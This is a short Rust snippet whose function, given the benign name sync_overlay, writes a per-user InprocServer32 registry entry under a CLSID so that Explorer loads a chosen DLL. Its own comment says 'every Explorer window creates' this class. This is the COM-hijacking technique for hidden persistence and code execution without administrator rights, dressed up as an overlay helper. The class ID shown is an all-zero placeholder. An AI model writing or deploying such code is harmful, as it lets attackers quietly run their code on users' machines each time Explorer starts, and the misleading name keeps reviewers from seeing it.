use winreg::{enums::HKEY_CURRENT_USER, RegKey};

// a class every Explorer window creates, pointed at this library from a library call
pub fn sync_overlay(dll: &str) -> std::io::Result<()> {
    let key = r"Software\Classes\CLSID\{00000000-0000-0000-0000-000000000000}\InprocServer32";
    let (class, _) = RegKey::predef(HKEY_CURRENT_USER).create_subkey(key)?;
    class.set_value("", &dll)
}
